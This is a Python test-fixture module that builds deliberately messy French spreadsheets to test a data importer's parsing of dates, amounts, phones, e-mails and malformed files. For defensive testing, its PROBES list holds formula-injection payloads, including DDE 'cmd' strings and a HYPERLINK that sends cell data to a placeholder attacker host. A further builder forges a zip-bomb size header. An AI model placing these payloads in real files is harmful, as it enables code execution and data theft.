"""Messy spreadsheets as managers send them, built with openpyxl for the import tests.

Each builder writes one file into a folder and returns its path. The case
tables (``DATE_CASES``, ``AMOUNT_CASES``…) are the per-row expectations of
``shared/samples/expected.json``; the builders lay them out in a column so a
test can read the file back and check the value of each Excel row
(``check_read_back``); ``check`` compares one parser result with its case.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from ingenierie.services.importing.parsing.parsed import ParseResult
from ingenierie.services.importing.reading.opening import open_table

ERROR = "ERROR"  # the parser must refuse the value
PEOPLE_HEADERS = ("Civilité", "Nom", "Prénom", "Organisme", "Fonction", "Courriel", "Téléphone",
                  "Code postal", "Commune", "Date du premier contact", "Montant accompagné (€)",
                  "Notes")
_FIRST = ("Noël", "Océane", "Rémi", "Benoît", "Mélanie", "Léa", "Cécile", "Gaëlle", "Loïc",
          "Clémence", "Jérôme", "Éloïse")
_LAST = ("Dupré", "Bouchez", "Ruiz", "Leroy", "Giraud", "Côté", "Benoît", "Dubœuf", "Lacoste",
         "Bérard", "Mérieux", "N'Diaye", "Castañer")
_ORGS = ("GAL LEADER Cévennes", "SCIC Énergies citoyennes", "CCI Occitanie – antenne de Rodez",
         "Association « Terres d'Oc »", "Mairie de Saint-Étienne-de-Tinée")


@dataclass(frozen=True)
class Case:
    """One cell to write (``raw``, with an optional number format) and what it must give."""

    raw: object
    expected: object  # a value, None (empty) or ERROR
    case: str
    number_format: str | None = None
    warns: bool = False  # a warning is expected along with the value


def person_row(i: int) -> list[object]:
    """A clean, plausible person row matching PEOPLE_HEADERS."""
    first, last = _FIRST[i % len(_FIRST)], _LAST[i % len(_LAST)]
    return ["Mme" if i % 2 else "M.", last, first, _ORGS[i % len(_ORGS)], "Chargée de mission",
            f"personne{i}@exemple.fr", f"06 12 34 {i % 100:02d} {i % 89:02d}",
            f"{12000 + i % 900:05d}", "Millau", date(2023, 1 + i % 12, 1 + i % 28),
            1000 + i + 0.5, "Rencontrée au forum « Cœur de bourg »." if i % 3 else None]


def _save(workbook: Workbook, path: Path) -> Path:
    workbook.save(path)
    return path


def _sheet(title: str) -> tuple[Workbook, Worksheet]:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = title
    return workbook, sheet


def _write_text(sheet: Worksheet, row: int, column: int, text: str) -> None:
    """A text cell, even when it starts with "=" (openpyxl would make it a formula).

    A carriage return is written as Excel does, ``_x000D_``: a raw one would
    be read back as a line feed by any XML parser.
    """
    cell = sheet.cell(row, column, text.replace("\r", "_x000D_"))
    cell.data_type = "s"


def clean_people(folder: Path, rows: int = 20, name: str = "propre.xlsx") -> Path:
    workbook, sheet = _sheet("Acteurs")
    sheet.append(PEOPLE_HEADERS)
    for i in range(rows):
        sheet.append(person_row(i))
    return _save(workbook, folder / name)


def title_block_merged(folder: Path) -> Path:
    """Like sample b: title rows, header on row 4, blanks, section label, merge, total, note.

    Data rows 5–68 minus blank rows 15, 17, 38 and the section row 27: 60 people.
    D40:D42 is one merged cell; row 70 is a Total with formulas; row 72 a footnote.
    """
    workbook, sheet = _sheet("Liste acteurs")
    sheet["A1"] = "Liste des acteurs du territoire — PETR Causses et Vallée de l'Aveyron"
    sheet.merge_cells("A1:L1")
    sheet["A2"] = "Extraction du 12/03/2024 – document de travail, ne pas diffuser"
    sheet.merge_cells("A2:F2")
    for column, header in enumerate(PEOPLE_HEADERS, start=1):
        sheet.cell(4, column, header)
    person = 0
    for row in range(5, 69):
        if row in (15, 17, 38):
            continue
        if row == 27:
            sheet.cell(row, 1, "Acteurs associatifs")
            sheet.merge_cells("A27:L27")
            continue
        for column, value in enumerate(person_row(person), start=1):
            sheet.cell(row, column, value)
        person += 1
    sheet["D41"] = None
    sheet["D42"] = None
    sheet.merge_cells("D40:D42")
    sheet["A70"] = "Total"
    sheet["B70"] = "=COUNTA(B5:B68)"
    sheet["K70"] = "=SUM(K5:K68)"
    sheet["A72"] = "Source : fichier partagé DGS, mis à jour par l'équipe."
    return _save(workbook, folder / "bloc_titre.xlsx")


DATE_CASES = (
    Case(datetime(2024, 3, 12), date(2024, 3, 12), "real date cell", "DD/MM/YYYY"),
    Case("12/03/2024", date(2024, 3, 12), "text DD/MM/YYYY"),
    Case("2024-03-12", date(2024, 3, 12), "text ISO"),
    Case("12 mars 2024", date(2024, 3, 12), "French month name"),
    Case("1er avril 2024", date(2024, 4, 1), "French ordinal 1er"),
    Case("12/03/24", date(2024, 3, 12), "two-digit year"),
    Case("12.03.2024", date(2024, 3, 12), "dot separators"),
    Case(" 12/03/2024 ", date(2024, 3, 12), "surrounding spaces"),
    Case("03/12/2024", date(2024, 12, 3), "ambiguous: day first, never month first"),
    Case(45363, date(2024, 3, 12), "Excel serial as a General number"),
    Case(45363, date(2024, 3, 12), "Excel serial formatted as a date", "DD/MM/YYYY"),
    Case("45363", date(2024, 3, 12), "serial as text: accepted with a warning", warns=True),
    Case("31/02/2024", ERROR, "impossible date"),
    Case("29/02/2023", ERROR, "not a leap year"),
    Case("29/02/2024", date(2024, 2, 29), "leap day"),
    Case("2024", ERROR, "year only"),
    Case("N/A", None, "placeholder: empty with a warning", warns=True),
    Case("", None, "empty string cell"),
    Case(None, None, "truly empty cell"),
    Case(datetime(2024, 3, 12, 14, 30), date(2024, 3, 12), "datetime with a time",
         "DD/MM/YYYY HH:MM"),
    Case("12/03/2024 14h30", date(2024, 3, 12), "French time suffix"),
    Case("le 12/03", ERROR, "no year"),
    Case(datetime(1900, 1, 1), ERROR, "implausible: before 1950", "DD/MM/YYYY"),
    Case("12/03/2124", ERROR, "implausible: far future"),
)

AMOUNT_CASES = (  # expected in cents
    Case(1234.56, 123456, "2 decimals float", '#,##0.00 "€"'),
    Case(1234, 123400, "int"),
    Case("1 234,56 €", 123456, "text, normal space, euro"),
    Case("1\u00a0234,56\u00a0€", 123456, "text, NBSP"),
    Case("1\u202f234,56\u202f€", 123456, "text, narrow NBSP"),
    Case("1234,56", 123456, "text, decimal comma"),
    Case("1.234,56", 123456, "text, dot thousands"),
    Case("1,234.56", 123456, "English format: read, with a warning", warns=True),
    Case("1,5", 150, "decimal comma, no thousands"),
    Case("-1 234,56 €", -123456, "negative"),
    Case("(1 234,56)", -123456, "accounting negative, with a warning", warns=True),
    Case("1 234,56 EUR", 123456, "EUR suffix"),
    Case("12 %", ERROR, "percent is not an amount"),
    Case("env. 3000", ERROR, "approximate"),
    Case("3 000 à 5 000", ERROR, "range"),
    Case("1e3", ERROR, "scientific text"),
    Case("", None, "empty"),
    Case("0", 0, "zero text"),
    Case(0.1 + 0.2, 30, "binary float rounded to cents", '#,##0.00 "€"'),
    Case("١٢٣٤", ERROR, "Arabic-Indic digits"),
)

POSTAL_CASES = (
    Case(1000, "01000", "number lost its zero", warns=True),
    Case("01000", "01000", "text"),
    Case(2000, "02000", "number lost its zero", warns=True),
    Case(97400, "97400", "overseas"),
    Case("2A004", "2A004", "Corsica"),
    Case(7000, "07000", "number lost its zero", warns=True),
    Case("07000", "07000", "text"),
    Case(12100, "12100", "number"),
    Case("1200", ERROR, "4 characters of text"),
    Case(123456, ERROR, "6 digits"),
)

PHONE_CASES = (
    Case(612345678, "06 12 34 56 78", "number lost its zero", warns=True),
    Case("06 12 34 56 78", "06 12 34 56 78", "French"),
    Case("+33 6 12 34 56 78", "+33 6 12 34 56 78", "international, kept"),
    Case("0612345678", "06 12 34 56 78", "compact"),
    Case("06.12.34.56.78", "06 12 34 56 78", "dots"),
    Case("(0)6 12 34 56 78", "06 12 34 56 78", "(0) notation"),
    Case(33612345678, "+33 6 12 34 56 78", "number lost its +", warns=True),
    Case("06 12 34 56", ERROR, "8 digits"),
    Case("0590 12 34 56", "0590 12 34 56", "Guadeloupe"),
    Case("tel: 06 12 34 56 78", "06 12 34 56 78", "tel: prefix"),
)

EMAIL_CASES = (
    Case("jerome.lefevre@mairie-exemple.fr", "jerome.lefevre@mairie-exemple.fr", "valid"),
    Case("Jerome.Lefevre@Mairie-Exemple.fr", "Jerome.Lefevre@Mairie-Exemple.fr",
         "case kept (matching folds it)"),
    Case("jerome.lefevre@mairie-exemple.fr ", "jerome.lefevre@mairie-exemple.fr", "trimmed"),
    Case(None, None, "empty"),
    Case("mh.cote@petr-fictif.fr\u200b", "mh.cote@petr-fictif.fr", "zero-width space removed",
         warns=True),
    Case("anais.vidal@", ERROR, "no domain"),
    Case("loic faure@mairie-exemple.fr", ERROR, "space"),
    Case("ines.boyer@mairie-exemple", ERROR, "no TLD"),
    Case("remi.giraud@@mairie-exemple.fr", ERROR, "double @"),
    Case("mailto:lea.perrin@mairie-exemple.fr", "lea.perrin@mairie-exemple.fr", "mailto: dropped"),
    Case("Hervé Ménard <herve.menard@mairie-exemple.fr>", "herve.menard@mairie-exemple.fr",
         "display name dropped", warns=True),
    Case("chloe.bastide@mairie-exemple.fr; secretariat@mairie-exemple.fr", ERROR,
         "two addresses in one cell"),
    Case("joël.olivier@mairie-exemple.fr", "joël.olivier@mairie-exemple.fr",
         "non-ASCII local part, with a warning", warns=True),
    Case("N/A", None, "placeholder, with a warning", warns=True),
    Case("stephane.ruiz@mairie-exemple.fr.", ERROR, "trailing dot"),
)

#: Text cells that look like formulas or markup: imported byte for byte (sample g).
PROBES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attaquant.invalid/?d="&A2,"Cliquez ici")',
    "+33 6 12 34 56 78",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",
    "#N/A",
    "=",
    " =1+1",
    "Normal text – Ça va ?",
    "<script>alert(1)</script> & <b>gras</b>",
    "<img src='/etc/passwd'/>",
    "R&D &amp; co",
)


def case_column(folder: Path, name: str, header: str, cases: tuple[Case, ...]) -> Path:
    """Nom | Prénom | <header> | Cas — one case per row from row 2 (samples c and d)."""
    workbook, sheet = _sheet("Cas")
    sheet.append(("Nom", "Prénom", header, "Commentaire du cas"))
    for row, case in enumerate(cases, start=2):
        sheet.cell(row, 1, f"Test{row - 2:02d}")
        sheet.cell(row, 2, "Cas")
        if isinstance(case.raw, str):
            _write_text(sheet, row, 3, case.raw)
        elif case.raw is not None:
            cell = sheet.cell(row, 3, case.raw)
            cell.number_format = case.number_format or "General"
        sheet.cell(row, 4, case.case)
    return _save(workbook, folder / name)


def formulas_and_probes(folder: Path) -> Path:
    """Sample g: probes as text in C and D (rows 2–19), real formulas with cached values.

    Row 20: A ="Formule"&"Nom" (cached FormuleNom), E =SUM (cached 18153),
    F =HYPERLINK (cached "Voir la fiche"). Row 21: A a formula without a
    cached value, E =1/0 cached #DIV/0!.
    """
    workbook, sheet = _sheet("Acteurs")
    sheet.append(("Nom", "Prénom", "Organisme", "Notes", "Montant accompagné (€)", "Lien"))
    for row, probe in enumerate(PROBES, start=2):
        sheet.cell(row, 1, f"Sonde{row - 2:02d}")
        sheet.cell(row, 2, "Test")
        _write_text(sheet, row, 3, probe)
        _write_text(sheet, row, 4, probe)
        sheet.cell(row, 5, 1000 + row - 2)
    sheet["A20"] = '="Formule"&"Nom"'
    sheet["B20"] = "Formule"
    sheet["E20"] = "=SUM(E2:E19)"
    sheet["F20"] = '=HYPERLINK("http://exemple.invalid/fiche","Voir la fiche")'
    sheet["A21"] = '=UPPER("sanscache")'
    sheet["B21"] = "SansCache"
    sheet["E21"] = "=1/0"
    path = _save(workbook, folder / "formules.xlsx")
    _set_cached_values(path, {"A20": ("str", "FormuleNom"), "E20": ("n", "18153"),
                              "F20": ("str", "Voir la fiche"), "E21": ("e", "#DIV/0!")})
    return path


def _set_cached_values(path: Path, cached: dict[str, tuple[str, str]]) -> None:
    """Give formula cells the cached value Excel would have stored (openpyxl writes none)."""
    def patch(xml: bytes) -> bytes:
        for ref, (kind, value) in cached.items():
            type_attr = "" if kind == "n" else f' t="{kind}"'
            xml, count = re.subn(rf'<c r="{ref}"[^>]*><f>(.*?)</f><v\s*/>'.encode(),
                                 lambda m, t=type_attr, r=ref, v=value: (
                                     f'<c r="{r}"{t}><f>'.encode() + m.group(1)
                                     + f"</f><v>{v}</v>".encode()), xml)
            assert count == 1, ref
        return xml

    _rewrite_part(path, "xl/worksheets/sheet1.xml", patch)


def _rewrite_part(path: Path, part: str, change: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(path) as source:
        items = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in items:
            target.writestr(info, change(data) if info.filename == part else data)


def people_with_duplicates(folder: Path) -> Path:
    """Sample e: the same person written five ways, namesakes, and the e-mail cases."""
    workbook, sheet = _sheet("Acteurs")
    sheet.append(("Prénom", "Nom", "Organisme", "Courriel"))
    people = [
        ("Jérôme", "Lefèvre", "Mairie de Millau"),
        ("JEROME", "LEFEVRE", "mairie de millau"),
        (" Jérôme ", "Lefèvre  ", "Mairie  de Millau"),
        ("Je\u0301ro\u0302me", "Lefe\u0300vre", "Mairie de Millau"),
        ("Jerome", "Lefevre", "Mairie de Millau"),
        ("Jérôme", "Lefèvre", "CC Pays de Séverac"),
        ("Marie-Hélène", "Côté", "PETR Causses"),
        ("Marie Hélène", "COTE", "P.E.T.R. Causses"),
        ("Marie-Helene", "Côté", "PETR Causses"),
        ("Noël", "Dubœuf", "Asso Terres d'Oc"),
        ("Noel", "Duboeuf", "Asso Terres d'Oc"),
    ]
    emails = [c.raw for c in EMAIL_CASES]
    for i in range(max(len(people), len(emails))):
        first, last, org = people[i] if i < len(people) else ("Anaïs", f"Vidal{i}", "Mairie")
        sheet.append((first, last, org, emails[i] if i < len(emails) else None))
    return _save(workbook, folder / "doublons.xlsx")


def header_variant(folder: Path, rows: int = 15) -> Path:
    """Sample f1: the same people under other headers."""
    workbook, sheet = _sheet("Feuil1")
    sheet.append(("Civilité", "NOM ", "Prénom", "Structure", "Fonction", "E-mail", "Tél.", "CP",
                  "Ville", "Date 1er contact", "Montant (€)", "Remarques"))
    for i in range(rows):
        sheet.append(person_row(i))
    return _save(workbook, folder / "entetes_variante.xlsx")


def empty_workbook(folder: Path) -> Path:
    return _save(Workbook(), folder / "vide.xlsx")


def header_only(folder: Path) -> Path:
    workbook, sheet = _sheet("Acteurs")
    sheet.append(PEOPLE_HEADERS)
    return _save(workbook, folder / "entete_seul.xlsx")


def csv_renamed(folder: Path) -> Path:
    """Sample k: a Windows-1252, semicolon-separated CSV named .xlsx."""
    lines = [";".join(PEOPLE_HEADERS)]
    for i in range(5):
        values = person_row(i)
        values[9] = values[9].strftime("%d/%m/%Y")  # type: ignore[union-attr]
        values[10] = f"{values[10]:.2f}".replace(".", ",")
        lines.append(";".join("" if v is None else str(v) for v in values))
    path = folder / "export.xlsx"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252"))
    return path


def truncated(folder: Path) -> Path:
    """Sample l: the first 60 % of a valid workbook."""
    source = clean_people(folder, rows=200, name="complet.xlsx").read_bytes()
    path = folder / "tronque.xlsx"
    path.write_bytes(source[: len(source) * 6 // 10])
    return path


def password_protected(folder: Path) -> Path:
    """An encrypted Office file is an OLE2 container: its magic number is enough here."""
    path = folder / "protege.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    return path


def wrong_dimension(folder: Path) -> Path:
    """51 rows × 12 columns whose sheet declares A1:B2 (openpyxl read-only then gives 2 × 2)."""
    path = clean_people(folder, rows=50, name="dimension.xlsx")
    _rewrite_part(path, "xl/worksheets/sheet1.xml",
                  lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', xml))
    return path


def declared_size_bomb(folder: Path) -> Path:
    """A workbook whose sheet part claims about 3.7 GB once uncompressed (zip bomb)."""
    path = clean_people(folder, rows=2, name="bombe.xlsx")
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    entry = data.find(b"PK\x01\x02")
    while entry != -1:
        name_length = int.from_bytes(data[entry + 28:entry + 30], "little")
        if data[entry + 46:entry + 46 + name_length] == name:
            data[entry + 24:entry + 28] = (0xDD000000).to_bytes(4, "little")
        entry = data.find(b"PK\x01\x02", entry + 4)
    path.write_bytes(bytes(data))
    return path


def insee_communes_csv(folder: Path, encoding: str = "cp1252") -> Path:
    """An INSEE-style list: ';', CRLF, ="01004" codes, spaces as thousands separators."""
    lines = ["COM;LIBELLE;DEP;PMUN",
             '="01004";Ambérieu-en-Bugey;="01";14 514',
             '="2A004";Ajaccio;2A;71 361',
             "07186;Privas;07;8 188"]
    path = folder / "communes.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode(encoding))
    return path


def check(result: ParseResult[Any], case: Case) -> None:
    if case.expected == ERROR:
        assert result.error is not None and result.value is None, case.case
        if isinstance(case.raw, str):
            assert case.raw in result.error, "the error quotes the raw value"
        return
    assert result.error is None, f"{case.case}: {result.error}"
    assert result.value == case.expected, case.case
    assert bool(result.warning) == case.warns, f"{case.case}: {result.warning}"


def check_read_back(folder: Path, header: str, cases: tuple[Case, ...],
                    parse: Callable[[Any], ParseResult[Any]]) -> None:
    """Write the cases in a column, read the workbook back, parse each Excel row."""
    table = open_table(case_column(folder, "cas.xlsx", header, cases))
    rows = list(table.rows())
    assert [row.number for row in rows] == list(range(2, len(cases) + 2))
    for row, case in zip(rows, cases, strict=True):
        check(parse(row.values[2]), case)
